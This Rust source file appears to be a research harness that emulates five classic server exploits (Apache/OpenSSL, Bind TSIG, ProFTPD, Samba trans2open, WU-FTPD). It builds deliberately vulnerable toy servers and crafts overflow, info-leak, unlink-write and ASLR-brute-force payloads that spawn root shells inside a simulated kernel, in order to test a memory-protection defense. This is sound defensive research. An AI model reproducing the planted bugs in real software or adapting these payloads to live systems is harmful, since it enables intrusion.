//! Five real-world exploit scenario emulations (paper §6.1.2, Table 2).
//!
//! Each scenario reproduces the *vulnerability class, address-discovery
//! method and payload staging* of one of the paper's five attacks against
//! RedHat 7.2-era servers:
//!
//! | scenario | paper target | class |
//! |---|---|---|
//! | [`Scenario::ApacheSsl`] | Apache 1.3.20 + OpenSSL 0.9.6d (`openssl-too-open`) | heap overflow + info leak → heap function pointer |
//! | [`Scenario::BindTsig`] | Bind 8.2.2_P5 (lsd-pl.net TSIG) | stack overflow + info leak → return address |
//! | [`Scenario::ProftpdAscii`] | ProFTPD 1.2.7 (`proftpd-not-pro-enough`) | ASCII-translation heap overflow → heap function pointer |
//! | [`Scenario::SambaTrans2`] | Samba 2.2.1a (`call_trans2open`, eSDee) | stack overflow brute-forced under stack ASLR, fork-per-connection |
//! | [`Scenario::WuFtpdGlob`] | WU-FTPD 2.6.1 (7350wurm) | free()/unlink-style corruption → arbitrary write → two-stage shellcode |
//!
//! The servers are real guest programs listening on the loopback network;
//! the exploits run from the host harness the way the original exploits ran
//! from an attacker machine.

use crate::harness::{
    classify_shell, drive_shell, ext_recv_wait, ext_send, external_connect_patiently,
    kernel_with_on, AttackOutcome, Protection,
};
use crate::shellcode;
use sm_kernel::kernel::{Kernel, KernelConfig};
use sm_kernel::process::Pid;
use sm_kernel::userlib::{BuiltProgram, ProgramBuilder};
use sm_machine::TlbPreset;

/// The five emulated attacks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Scenario {
    /// Apache 1.3.20 + OpenSSL 0.9.6d-style heap overflow with info leak.
    ApacheSsl,
    /// Bind 8.2.2_P5-style stack overflow with info leak.
    BindTsig,
    /// ProFTPD 1.2.7-style ASCII-mode translation overflow.
    ProftpdAscii,
    /// Samba 2.2.1a-style brute-forced stack overflow (fork-per-connection,
    /// stack ASLR on).
    SambaTrans2,
    /// WU-FTPD 2.6.1-style free()-based corruption with two-stage payload.
    WuFtpdGlob,
}

impl Scenario {
    /// All scenarios, Table 2 order.
    pub const ALL: [Scenario; 5] = [
        Scenario::ApacheSsl,
        Scenario::BindTsig,
        Scenario::ProftpdAscii,
        Scenario::SambaTrans2,
        Scenario::WuFtpdGlob,
    ];

    /// The software the paper attacked.
    pub fn paper_target(&self) -> &'static str {
        match self {
            Scenario::ApacheSsl => "Apache 1.3.20 w/ OpenSSL 0.9.6d",
            Scenario::BindTsig => "Bind 8.2.2_P5",
            Scenario::ProftpdAscii => "ProFTPD 1.2.7",
            Scenario::SambaTrans2 => "Samba 2.2.1a",
            Scenario::WuFtpdGlob => "WU-FTPD 2.6.1",
        }
    }

    /// Short label.
    pub fn name(&self) -> &'static str {
        match self {
            Scenario::ApacheSsl => "apache-ssl",
            Scenario::BindTsig => "bind-tsig",
            Scenario::ProftpdAscii => "proftpd-ascii",
            Scenario::SambaTrans2 => "samba-trans2",
            Scenario::WuFtpdGlob => "wuftpd-glob",
        }
    }

    /// Port the emulated server listens on.
    pub fn port(&self) -> u16 {
        match self {
            Scenario::ApacheSsl => 443,
            Scenario::BindTsig => 53,
            Scenario::ProftpdAscii => 21,
            Scenario::SambaTrans2 => 445,
            Scenario::WuFtpdGlob => 2121,
        }
    }
}

/// Result of running one scenario under one protection configuration.
#[derive(Debug, Clone)]
pub struct ScenarioReport {
    /// Which attack.
    pub scenario: Scenario,
    /// Classified outcome.
    pub outcome: AttackOutcome,
    /// Number of detections logged by the protection.
    pub detections: usize,
    /// Exploit connection attempts (interesting for the brute-forced
    /// Samba attack).
    pub attempts: u32,
    /// If a shell was obtained, the attacker's interactive transcript
    /// (`id`, `whoami`), demonstrating the paper's Fig. 5b/5d sessions.
    pub transcript: Option<String>,
}

/// Run one scenario under a protection configuration.
pub fn run_scenario(scenario: Scenario, protection: &Protection) -> ScenarioReport {
    run_scenario_on(scenario, protection, TlbPreset::default())
}

/// [`run_scenario`] on an explicit TLB geometry. Verdicts must not depend
/// on TLB shape: the split check fires on the miss path regardless of why
/// the entry was absent.
pub fn run_scenario_on(
    scenario: Scenario,
    protection: &Protection,
    tlb: TlbPreset,
) -> ScenarioReport {
    match scenario {
        Scenario::ApacheSsl => run_apache(protection, tlb),
        Scenario::BindTsig => run_bind(protection, tlb),
        Scenario::ProftpdAscii => run_proftpd(protection, tlb),
        Scenario::SambaTrans2 => run_samba(protection, tlb),
        Scenario::WuFtpdGlob => run_wuftpd(protection, tlb),
    }
}

// ---------------------------------------------------------------------------
// shared plumbing

const BUDGET: u64 = 4_000_000;

fn spawn_server(
    protection: &Protection,
    tlb: TlbPreset,
    prog: &BuiltProgram,
    aslr: bool,
) -> (Kernel, Pid) {
    spawn_server_traced(protection, tlb, prog, aslr, 0)
}

fn spawn_server_traced(
    protection: &Protection,
    tlb: TlbPreset,
    prog: &BuiltProgram,
    aslr: bool,
    trace: u32,
) -> (Kernel, Pid) {
    let mut k = kernel_with_on(
        protection,
        tlb,
        KernelConfig {
            aslr_stack: aslr,
            trace,
            ..KernelConfig::default()
        },
    );
    let pid = k.spawn(&prog.image).expect("server spawns");
    (k, pid)
}

/// Parse the first decimal number after `prefix` in a banner.
fn parse_leak(banner: &str, nth: usize) -> Option<u32> {
    let nums: Vec<u32> = banner
        .split(|c: char| !c.is_ascii_digit())
        .filter(|s| !s.is_empty())
        .filter_map(|s| s.parse().ok())
        .collect();
    nums.get(nth).copied()
}

fn finish(
    scenario: Scenario,
    mut k: Kernel,
    conn: Option<&crate::harness::ExternalConn>,
    attempts: u32,
) -> ScenarioReport {
    k.run(BUDGET);
    let outcome = classify_shell(&k);
    let transcript = if outcome == AttackOutcome::ShellSpawned {
        conn.map(|c| drive_shell(&mut k, c, &["id", "whoami"]))
    } else {
        None
    };
    ScenarioReport {
        scenario,
        outcome,
        detections: crate::harness::detections(&k),
        attempts,
        transcript,
    }
}

// ---------------------------------------------------------------------------
// 1. Apache + OpenSSL: heap overflow, info leak, heap function pointer

/// Build the apache-ssl victim server.
pub fn apache_server() -> BuiltProgram {
    ProgramBuilder::new("/bin/apache-ssl")
        .code(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, 443
                int 0x80
                mov eax, SYS_ACCEPT
                mov ebx, 443
                int 0x80
                mov [sockfd], eax
                ; session objects: client-master-key buffer, then the
                ; session handler object right after it on the heap
                mov eax, 96
                call malloc
                mov [keybuf], eax
                mov eax, 16
                call malloc
                mov [hobj], eax
                mov eax, [hobj]
                mov dword [eax], session_ok
                ; SSL handshake info leak (openssl-too-open uses one to
                ; find its shellcode address)
                mov ebx, [sockfd]
                mov esi, banner
                call fdputs
                mov ebx, [sockfd]
                mov eax, [keybuf]
                call fdput_num
                mov ebx, [sockfd]
                mov esi, nl
                call fdputs
                ; read the CLIENT-MASTER-KEY length, then the key itself.
                ; THE BUG: the length is attacker-controlled and unchecked.
                mov ebx, [sockfd]
                mov edi, linebuf
                mov edx, 16
                call read_line
                mov esi, linebuf
                call atoi
                mov edx, eax
                mov eax, SYS_READ
                mov ebx, [sockfd]
                mov ecx, [keybuf]
                int 0x80
                ; dispatch the session handler
                mov eax, [hobj]
                call [eax]
                mov ebx, 0
                call exit
            session_ok:
                ret",
        )
        .data(
            "sockfd: .word 0
             keybuf: .word 0
             hobj: .word 0
             linebuf: .space 32
             banner: .asciz \"SSL-SERVER keyaddr \"
             nl: .asciz \"\\n\"",
        )
        .build()
        .expect("apache server assembles")
}

fn run_apache(protection: &Protection, tlb: TlbPreset) -> ScenarioReport {
    let prog = apache_server();
    let (mut k, _pid) = spawn_server(protection, tlb, &prog, false);
    let conn = external_connect_patiently(&mut k, 443, BUDGET).expect("server listening");
    let banner = String::from_utf8_lossy(&ext_recv_wait(&mut k, &conn, BUDGET)).into_owned();
    let keybuf = parse_leak(&banner, 0).expect("leak in banner");
    // Overflow: shellcode, padding to the heap-adjacent handler object,
    // then the leaked buffer address over its function pointer.
    let mut payload = shellcode::shell_on_fd(3);
    payload.resize(96, 0x90);
    payload.extend_from_slice(&keybuf.to_le_bytes());
    ext_send(&mut k, &conn, format!("{}\n", payload.len()).as_bytes());
    k.run(BUDGET);
    ext_send(&mut k, &conn, &payload);
    finish(Scenario::ApacheSsl, k, Some(&conn), 1)
}

// ---------------------------------------------------------------------------
// 2. Bind TSIG: stack overflow with info leak

/// Build the bind-tsig victim server.
pub fn bind_server() -> BuiltProgram {
    ProgramBuilder::new("/bin/bind-tsig")
        .code(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, 53
                int 0x80
                mov eax, SYS_ACCEPT
                mov ebx, 53
                int 0x80
                mov [sockfd], eax
                call handle_query
                mov ebx, 0
                call exit
            handle_query:
                push ebp
                mov ebp, esp
                sub esp, 128
                ; the lsd-pl.net exploit 'makes use of an information leak
                ; bug to determine the shellcode jump address'
                mov ebx, [sockfd]
                mov esi, banner
                call fdputs
                mov ebx, [sockfd]
                lea eax, [ebp-128]
                call fdput_num
                mov ebx, [sockfd]
                mov esi, nl
                call fdputs
                ; read TSIG record: length line then bytes into the stack
                ; buffer. THE BUG: length unchecked.
                mov ebx, [sockfd]
                mov edi, linebuf
                mov edx, 16
                call read_line
                mov esi, linebuf
                call atoi
                mov edx, eax
                mov eax, SYS_READ
                mov ebx, [sockfd]
                lea ecx, [ebp-128]
                int 0x80
                leave
                ret",
        )
        .data(
            "sockfd: .word 0
             linebuf: .space 32
             banner: .asciz \"BIND qbuf \"
             nl: .asciz \"\\n\"",
        )
        .build()
        .expect("bind server assembles")
}

fn run_bind(protection: &Protection, tlb: TlbPreset) -> ScenarioReport {
    let prog = bind_server();
    let (mut k, _pid) = spawn_server(protection, tlb, &prog, false);
    let conn = external_connect_patiently(&mut k, 53, BUDGET).expect("server listening");
    let banner = String::from_utf8_lossy(&ext_recv_wait(&mut k, &conn, BUDGET)).into_owned();
    let bufaddr = parse_leak(&banner, 0).expect("leak in banner");
    // 128 bytes of shellcode+sled, 4 bytes saved-ebp junk, return address
    // pointing back into the buffer.
    let mut payload = shellcode::shell_on_fd(3);
    payload.resize(128, 0x90);
    payload.extend_from_slice(&0x41414141u32.to_le_bytes());
    payload.extend_from_slice(&bufaddr.to_le_bytes());
    ext_send(&mut k, &conn, format!("{}\n", payload.len()).as_bytes());
    k.run(BUDGET);
    ext_send(&mut k, &conn, &payload);
    finish(Scenario::BindTsig, k, Some(&conn), 1)
}

// ---------------------------------------------------------------------------
// 3. ProFTPD: ASCII-mode translation overflow on the heap

/// Build the proftpd victim server.
pub fn proftpd_server() -> BuiltProgram {
    ProgramBuilder::new("/bin/proftpd")
        .code(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, 21
                int 0x80
                mov eax, SYS_ACCEPT
                mov ebx, 21
                int 0x80
                mov [sockfd], eax
                mov eax, 512
                call malloc
                mov [upbuf], eax
                mov eax, 128
                call malloc
                mov [xlbuf], eax
                mov eax, 16
                call malloc
                mov [cb], eax
                mov eax, [cb]
                mov dword [eax], xfer_done
                mov ebx, [sockfd]
                mov esi, banner
                call fdputs
                mov ebx, [sockfd]
                mov eax, [xlbuf]
                call fdput_num
                mov ebx, [sockfd]
                mov esi, nl
                call fdputs
            cmdloop:
                mov ebx, [sockfd]
                mov edi, linebuf
                mov edx, 32
                call read_line
                mov esi, linebuf
                mov edi, cmd_stor
                call strcmp
                cmp eax, 0
                je do_stor
                mov esi, linebuf
                mov edi, cmd_retr
                call strcmp
                cmp eax, 0
                je do_retr
                mov esi, linebuf
                mov edi, cmd_quit
                call strcmp
                cmp eax, 0
                je do_quit
                jmp cmdloop
            do_stor:
                mov ebx, [sockfd]
                mov edi, linebuf
                mov edx, 16
                call read_line
                mov esi, linebuf
                call atoi
                mov [uplen], eax
                mov edx, eax
                mov eax, SYS_READ
                mov ebx, [sockfd]
                mov ecx, [upbuf]
                int 0x80
                jmp cmdloop
            do_retr:
                ; ASCII-mode translation: LF -> CR LF, copied into the
                ; 128-byte translate buffer. THE BUG: output length (input
                ; plus expansions) is never checked against the buffer.
                mov esi, [upbuf]
                mov edi, [xlbuf]
                mov ecx, [uplen]
            retr_loop:
                cmp ecx, 0
                je retr_done
                movzx eax, byte [esi]
                cmp eax, 10
                jne retr_plain
                mov byte [edi], 13
                inc edi
            retr_plain:
                mov [edi], al
                inc esi
                inc edi
                dec ecx
                jmp retr_loop
            retr_done:
                mov eax, [cb]
                call [eax]
                jmp cmdloop
            do_quit:
                mov ebx, 0
                call exit
            xfer_done:
                ret",
        )
        .data(
            "sockfd: .word 0
             upbuf: .word 0
             xlbuf: .word 0
             cb: .word 0
             uplen: .word 0
             linebuf: .space 32
             banner: .asciz \"220 ProFTPD xl \"
             nl: .asciz \"\\n\"
             cmd_stor: .asciz \"STOR\"
             cmd_retr: .asciz \"RETR\"
             cmd_quit: .asciz \"QUIT\"",
        )
        .build()
        .expect("proftpd server assembles")
}

fn run_proftpd(protection: &Protection, tlb: TlbPreset) -> ScenarioReport {
    let prog = proftpd_server();
    let (mut k, _pid) = spawn_server(protection, tlb, &prog, false);
    let conn = external_connect_patiently(&mut k, 21, BUDGET).expect("server listening");
    let banner = String::from_utf8_lossy(&ext_recv_wait(&mut k, &conn, BUDGET)).into_owned();
    let xlbuf = parse_leak(&banner, 1).expect("leak in banner"); // 0 is "220"
                                                                 // Upload: shellcode + padding to the translate-buffer size + the
                                                                 // callback overwrite (no LF bytes, so translation is the identity and
                                                                 // the 132-byte output overflows the 128-byte buffer by exactly the
                                                                 // pointer).
    let mut upload = shellcode::shell_on_fd(3);
    upload.resize(128, 0x90);
    upload.extend_from_slice(&xlbuf.to_le_bytes());
    assert!(
        !upload.contains(&0x0a),
        "payload must avoid LF so ASCII translation leaves offsets intact"
    );
    ext_send(&mut k, &conn, b"STOR\n");
    k.run(BUDGET);
    ext_send(&mut k, &conn, format!("{}\n", upload.len()).as_bytes());
    k.run(BUDGET);
    ext_send(&mut k, &conn, &upload);
    k.run(BUDGET);
    ext_send(&mut k, &conn, b"RETR\n");
    finish(Scenario::ProftpdAscii, k, Some(&conn), 1)
}

// ---------------------------------------------------------------------------
// 4. Samba trans2open: brute-forced stack overflow under ASLR

/// Build the samba victim server (forks a child per connection, so failed
/// guesses only kill children — like the real daemon).
pub fn samba_server() -> BuiltProgram {
    ProgramBuilder::new("/bin/samba")
        .code(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, 445
                int 0x80
            accept_loop:
                mov eax, SYS_ACCEPT
                mov ebx, 445
                int 0x80
                mov [connfd], eax
                mov eax, SYS_FORK
                int 0x80
                cmp eax, 0
                je child
                mov eax, SYS_CLOSE
                mov ebx, [connfd]
                int 0x80
                jmp accept_loop
            child:
                call handle_smb
                mov ebx, 0
                call exit
            handle_smb:
                push ebp
                mov ebp, esp
                sub esp, 192
                ; call_trans2open: length then data into a stack buffer.
                ; THE BUG: unchecked length.
                mov ebx, [connfd]
                mov edi, linebuf
                mov edx, 16
                call read_line
                mov esi, linebuf
                call atoi
                mov edx, eax
                mov eax, SYS_READ
                mov ebx, [connfd]
                lea ecx, [ebp-192]
                int 0x80
                leave
                ret",
        )
        .data(
            "connfd: .word 0
             linebuf: .space 32",
        )
        .build()
        .expect("samba server assembles")
}

fn run_samba(protection: &Protection, tlb: TlbPreset) -> ScenarioReport {
    let prog = samba_server();
    // Stack ASLR on: this is the 2.6-kernel randomisation the eSDee
    // exploit brute-forces (paper §6.1.2).
    let (mut k, pid) = spawn_server(protection, tlb, &prog, true);
    k.run(BUDGET);
    // "The exploit was helped by providing a better first guess using
    // insider information about the stack location" — we read the
    // process's stack top the way the paper's authors read theirs from a
    // similar vulnerable system.
    let first_guess = k.sys.proc(pid).aspace.stack_high - 200;
    let mut attempts = 0u32;
    let sc = shellcode::shell_on_fd(3);
    let sled = 192 - sc.len(); // sled + shellcode exactly fill the buffer
    let mut guess = first_guess;
    let floor = first_guess.saturating_sub(2048);
    while guess > floor {
        attempts += 1;
        let Some(conn) = external_connect_patiently(&mut k, 445, BUDGET) else {
            break;
        };
        // Sled + shellcode + padding + saved-ebp + ret = guess.
        let mut payload = shellcode::nop_sled(sled);
        payload.extend_from_slice(&sc);
        debug_assert_eq!(payload.len(), 192);
        payload.extend_from_slice(&0x41414141u32.to_le_bytes());
        payload.extend_from_slice(&guess.to_le_bytes());
        ext_send(&mut k, &conn, format!("{}\n", payload.len()).as_bytes());
        k.run(BUDGET);
        ext_send(&mut k, &conn, &payload);
        k.run(BUDGET);
        if k.sys.events.execed(crate::shell::SHELL_PATH) {
            return finish(Scenario::SambaTrans2, k, Some(&conn), attempts);
        }
        // Under a protecting engine every guess is foiled; stop once the
        // engine has demonstrably intervened a few times.
        if crate::harness::detections(&k) >= 3 {
            break;
        }
        guess -= sled as u32 / 2;
    }
    finish(Scenario::SambaTrans2, k, None, attempts)
}

// ---------------------------------------------------------------------------
// 5. WU-FTPD: free()/unlink corruption, two-stage payload

/// Build the wu-ftpd victim server.
pub fn wuftpd_server() -> BuiltProgram {
    ProgramBuilder::new("/bin/wu-ftpd")
        .code(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, 2121
                int 0x80
                mov eax, SYS_ACCEPT
                mov ebx, 2121
                int 0x80
                mov [sockfd], eax
                call session
                mov ebx, 0
                call exit
            session:
                push ebp
                mov ebp, esp
                sub esp, 16
                ; glob buffer, then the glob list node right after it
                mov eax, 96
                call malloc
                mov [gbuf], eax
                mov eax, 16
                call malloc
                mov [gnode], eax
                mov eax, [gnode]
                mov dword [eax], dummy_node
                mov dword [eax+4], dummy_node
                mov ebx, [sockfd]
                mov esi, banner
                call fdputs
                mov ebx, [sockfd]
                mov eax, [gbuf]
                call fdput_num
                mov ebx, [sockfd]
                mov esi, sp
                call fdputs
                mov ebx, [sockfd]
                lea eax, [ebp+4]
                call fdput_num
                mov ebx, [sockfd]
                mov esi, nl
                call fdputs
                ; read the glob pattern: length line + bytes into gbuf.
                ; THE BUG: the copy runs past the buffer into the node.
                mov ebx, [sockfd]
                mov edi, linebuf
                mov edx, 16
                call read_line
                mov esi, linebuf
                call atoi
                mov edx, eax
                mov eax, SYS_READ
                mov ebx, [sockfd]
                mov ecx, [gbuf]
                int 0x80
                ; free the (attacker-corrupted) glob node: the unlink write
                ; FD->bk = BK is the attacker's arbitrary 4-byte write
                mov eax, [gnode]
                mov ecx, [eax]
                mov edx, [eax+4]
                mov [ecx+4], edx
                leave
                ret",
        )
        .data(
            "sockfd: .word 0
             gbuf: .word 0
             gnode: .word 0
             linebuf: .space 32
             dummy_node: .space 16
             banner: .asciz \"220 wu-ftpd glob \"
             sp: .asciz \" \"
             nl: .asciz \"\\n\"",
        )
        .build()
        .expect("wuftpd server assembles")
}

fn run_wuftpd(protection: &Protection, tlb: TlbPreset) -> ScenarioReport {
    run_wuftpd_traced_on(protection, tlb, 0).0
}

/// Like [`run_scenario`] for WU-FTPD, but also returns the kernel and the
/// attacker connection so demos (Fig. 5) can keep interacting.
pub fn run_wuftpd_with(
    protection: &Protection,
) -> (ScenarioReport, Kernel, Option<crate::harness::ExternalConn>) {
    run_wuftpd_traced_on(protection, TlbPreset::default(), 0)
}

/// [`run_wuftpd_with`] on an explicit TLB geometry, with the trace
/// subsystem armed (`trace` is a [`sm_machine::trace::mask`] bitmask): the
/// returned kernel's ring holds the exploit's cycle-stamped event stream,
/// which the Fig. 5 response-mode demo renders with `--trace`.
pub fn run_wuftpd_traced_on(
    protection: &Protection,
    tlb: TlbPreset,
    trace: u32,
) -> (ScenarioReport, Kernel, Option<crate::harness::ExternalConn>) {
    let prog = wuftpd_server();
    let (mut k, _pid) = spawn_server_traced(protection, tlb, &prog, false, trace);
    let conn = external_connect_patiently(&mut k, 2121, BUDGET).expect("server listening");
    let banner = String::from_utf8_lossy(&ext_recv_wait(&mut k, &conn, BUDGET)).into_owned();
    let gbuf = parse_leak(&banner, 1).expect("gbuf leak");
    let retslot = parse_leak(&banner, 2).expect("retslot leak");
    // Stage one in the glob buffer, then the corrupted node: FD = retslot-4
    // and BK = gbuf, so the unlink write puts the buffer address into the
    // saved return address.
    // A small NOP sled ahead of stage one, as 7350wurm's payload had — the
    // forensic dump (paper Fig. 5c) then leads with recognisable 0x90s.
    let mut payload = shellcode::nop_sled(16);
    payload.extend_from_slice(&shellcode::two_stage_stage1(3));
    payload.resize(96, 0x90);
    payload.extend_from_slice(&(retslot - 4).to_le_bytes()); // node fd
    payload.extend_from_slice(&gbuf.to_le_bytes()); // node bk
    ext_send(&mut k, &conn, format!("{}\n", payload.len()).as_bytes());
    k.run(BUDGET);
    ext_send(&mut k, &conn, &payload);
    k.run(BUDGET);
    // Stage one (if it ran) signals us and waits for stage two.
    let sig = ext_recv_wait(&mut k, &conn, BUDGET);
    let mut attempts = 1;
    if sig.as_slice() == shellcode::STAGE1_MARKER {
        ext_send(&mut k, &conn, &shellcode::shell_on_fd(3));
        attempts = 2;
    }
    let report = {
        k.run(BUDGET);
        let outcome = classify_shell(&k);
        let transcript = if outcome == AttackOutcome::ShellSpawned {
            Some(drive_shell(&mut k, &conn, &["id", "whoami"]))
        } else {
            None
        };
        ScenarioReport {
            scenario: Scenario::WuFtpdGlob,
            outcome,
            detections: crate::harness::detections(&k),
            attempts,
            transcript,
        }
    };
    (report, k, Some(conn))
}

#[cfg(test)]
mod tests {
    use super::*;
    use sm_kernel::events::ResponseMode;

    #[test]
    fn all_five_succeed_unprotected() {
        for s in Scenario::ALL {
            let r = run_scenario(s, &Protection::Unprotected);
            assert_eq!(
                r.outcome,
                AttackOutcome::ShellSpawned,
                "{} did not get a shell: {r:?}",
                s.name()
            );
            let t = r.transcript.expect("interactive shell transcript");
            assert!(t.contains("uid=0(root)"), "{}: {t}", s.name());
        }
    }

    #[test]
    fn all_five_foiled_by_split_memory() {
        for s in Scenario::ALL {
            let r = run_scenario(s, &Protection::SplitMem(ResponseMode::Break));
            assert!(
                !r.outcome.succeeded(),
                "{} succeeded under split memory",
                s.name()
            );
            assert!(r.detections > 0, "{}: no detection logged", s.name());
        }
    }

    #[test]
    fn observe_mode_lets_wuftpd_proceed_with_log() {
        // Paper Fig. 5b: under observe mode the exploit gets its root
        // shell, but the kernel logged the injection first.
        let r = run_scenario(
            Scenario::WuFtpdGlob,
            &Protection::SplitMem(ResponseMode::Observe),
        );
        assert_eq!(r.outcome, AttackOutcome::ShellSpawned, "{r:?}");
        assert!(r.detections > 0);
        assert!(r.transcript.unwrap().contains("uid=0(root)"));
    }
}
